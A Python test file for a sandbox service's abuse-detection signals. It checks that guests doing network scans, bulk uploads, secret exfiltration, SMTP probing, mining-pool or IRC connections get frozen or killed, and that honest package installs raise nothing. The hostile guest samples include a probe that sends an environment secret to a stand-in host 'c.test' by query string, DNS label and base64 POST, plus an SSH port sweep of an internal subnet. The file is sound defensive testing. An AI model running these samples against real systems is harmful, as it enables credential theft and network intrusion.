"""Signals: a guest that does what each looks for raises it, and the operator's action follows; honest work raises none."""
import json
import os
import subprocess
import time

from beyond import Beyond
from internet import OTHER, SILENT
from server import BUILD, Server
from tally import Skipped

from brakes import oyat, start

SETTINGS = """
[signals]
deny_burst = "freeze"
upload_spike = "freeze"
secret_probe = "freeze"
abuse = "kill"
upload_bytes = "8MiB"
spin_after = "15s"
"""

# Hostile guests: each does one thing, in Python, and says nothing.
SCAN = """
import socket
for host in range(1, 61):
    try: socket.create_connection((f"10.66.0.{host}", 22), timeout=2).close()
    except OSError: pass
"""
UPLOAD = f"""
import socket
for part in range(3):
    with socket.create_connection(({SILENT!r}, 80), timeout=20) as away: away.sendall(bytes(4 << 20))
"""
# One connection that goes on and on, at the pace of a slow line.
LONG_UPLOAD = f"""
import socket, time
with socket.create_connection(({SILENT!r}, 80), timeout=20) as away:
    while True:
        away.sendall(bytes(1 << 20))
        time.sleep(0.2)
"""
# Looks for a place that lets its placeholder out: in clear, by a name, by another writing.
PROBE = """
import base64, os, socket, urllib.request
key = os.environ["PROBED_KEY"]
try: urllib.request.urlopen("http://c.test/?key=" + key, timeout=5)
except OSError: pass
try: socket.getaddrinfo(key + ".c.test", 80)
except OSError: pass
try: urllib.request.urlopen("http://c.test/", data=base64.b64encode(b"stolen " + key.encode()), timeout=5)
except OSError: pass
"""
MAIL = """
import socket
for host in range(1, 5):
    try: socket.create_connection((f"203.0.113.{host}", 25), timeout=2).close()
    except OSError: pass
"""
MINE = f"""
import socket
for port in (3333, 4444, 14444, 45700):
    try: socket.create_connection(({OTHER!r}, port), timeout=2).close()
    except OSError: pass
"""
IRC = f"""
import socket
for port in (6667, 6697, 6665, 6669):
    try: socket.create_connection(({OTHER!r}, port), timeout=2).close()
    except OSError: pass
"""


def signals_of(server, sandbox_id):
    status, _, data = server.client.raw("GET", f"/v1/events?sandbox={sandbox_id}&type=signal.&limit=100", None,
                                        {"X-API-Key": server.client.key})
    assert status == 200, (status, data)
    return [json.loads(line) for line in data.splitlines() if line.strip()]


def wait_for(server, sandbox_id, name, seconds=20):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for event in signals_of(server, sandbox_id):
            if event["type"] == f"signal.{name}":
                return event
        time.sleep(0.1)
    raise AssertionError(f"no signal.{name}; there are {[event['type'] for event in signals_of(server, sandbox_id)]}")


def wait_until(server, sandbox_id, what):
    end = time.monotonic() + 10
    while not what(oyat(server, "info", sandbox_id)):
        assert time.monotonic() < end, oyat(server, "info", sandbox_id)
        time.sleep(0.1)


def is_held(server, name, program):
    with server.client.create() as bystander:
        sandbox = server.client.create()
        start(sandbox, program)
        signal = wait_for(server, sandbox.id, name)
        assert signal["action"] == "freeze" and signal["sentence"], signal
        wait_until(server, sandbox.id, lambda info: info["held"])
        assert not oyat(server, "info", bystander.id)["held"] and not signals_of(server, bystander.id)
        oyat(server, "kill", "--force", sandbox.id)


def probes(server):
    """Three tries to get a placeholder out are one signal, and none of them arrives."""
    sandbox = server.client.create()
    server.client.api("POST", "/v1/secrets", {"name": "probed", "value": "a-value-that-nobody-sees"})
    server.client.api("POST", f"/v1/sandboxes/{sandbox.id}/secrets", {"secrets": [
        {"secret": "probed", "env": "PROBED_KEY", "where": {"host": ["a.test"], "port": [443]}, "how": {"in": "header"}}]})
    start(sandbox, PROBE)
    signal = wait_for(server, sandbox.id, "secret_probe")
    assert signal["action"] == "freeze" and signal["sentence"], signal
    wait_until(server, sandbox.id, lambda info: info["held"])
    oyat(server, "kill", "--force", sandbox.id)


def is_ended(server, program):
    sandbox = server.client.create()
    start(sandbox, program)
    wait_until(server, sandbox.id, lambda info: info["state"] == "ended")
    info = oyat(server, "info", sandbox.id)
    assert info["ended_by"] == "signal" and info["ended_detail"].startswith("abuse: "), info
    assert any(event["type"] == "signal.abuse" for event in signals_of(server, sandbox.id))


def spins(server):
    """On a tenth of a CPU, so that a loaded machine does not excuse it."""
    made = oyat(server, "create", "--cpus", "0.1")["id"]
    oyat(server, "exec", "-d", made, "--", "sh", "-c", "exec >/dev/null 2>&1; while :; do :; done")
    signal = wait_for(server, made, "spin", seconds=60)
    assert signal["action"] == "note" and oyat(server, "info", made)["state"] == "running"
    oyat(server, "kill", made)


def works_and_says_so(server):
    """The same loop that prints how far it is does not spin."""
    made = oyat(server, "create", "--cpus", "0.1")["id"]
    loop = "while :; do for i in {1..2000}; do :; done; echo step; done"
    shown = subprocess.run([BUILD / "bin" / "oyat", "exec", made, "--", "timeout", "40", "bash", "-c", loop], capture_output=True, text=True,
                           env={**os.environ, **server.environment()}, timeout=60).stdout
    assert shown.startswith("step\nstep\n"), shown[:200]
    assert not signals_of(server, made), signals_of(server, made)
    oyat(server, "kill", made)


def retries_are_no_burst(server):
    """A package manager without a way out tries again and again: pip and npm without a network raise nothing."""
    with server.client.create(allow_internet_access=False) as sandbox:
        for command in ("pip install --retries 5 six", "cd /tmp && npm install --fetch-retries 5 --fetch-retry-mintimeout 10 "
                        "--fetch-retry-maxtimeout 100 express", "sudo apt-get update; sudo apt-get install -y hello"):
            sandbox.run(f"timeout 40 bash -c '{command}'", timeout_ms=60_000)
        assert not signals_of(server, sandbox.id), signals_of(server, sandbox.id)


def honest_work(server, beyond):
    """Packages of each kind are installed and a test suite runs."""
    with server.client.create() as sandbox:
        done = sandbox.run("pip install -q requests", timeout_ms=120_000)
        if done.exit_code != 0 and not beyond.address_of("pypi.org"):
            raise Skipped("no package registry can be reached from here")
        for command in ("cd /tmp && npm install --silent express", "sudo apt-get update -qq && sudo apt-get install -y -qq tree >/dev/null",
                        "cd /tmp && python3 -m unittest -q test.test_json test.test_re || python3 -c 'import json, requests'"):
            done = sandbox.run(command, timeout_ms=300_000)
            assert done.exit_code == 0, done.stderr[-800:]
        assert not signals_of(server, sandbox.id), signals_of(server, sandbox.id)


def checks(tally, internet, home):
    names = {"signals: deny_burst": (is_held, "deny_burst", SCAN), "signals: upload_spike": (is_held, "upload_spike", UPLOAD),
             "signals: upload_spike while it runs": (is_held, "upload_spike", LONG_UPLOAD), "signals: secret_probe": (probes,),
             "signals: abuse, mail": (is_ended, MAIL), "signals: abuse, mining": (is_ended, MINE), "signals: abuse, IRC": (is_ended, IRC),
             "signals: spin": (spins,),
             "signals: packages and a test suite": (honest_work, Beyond(home, internet.services, internet.names)),
             "signals: work that prints": (works_and_says_so,), "signals: retries of package managers": (retries_are_no_burst,)}
    if not any(map(tally.wants, names)):
        return
    with Server(options=internet.options(SETTINGS)) as server:
        for name, (check, *arguments) in names.items():
            tally.check(name, check, server, *arguments)
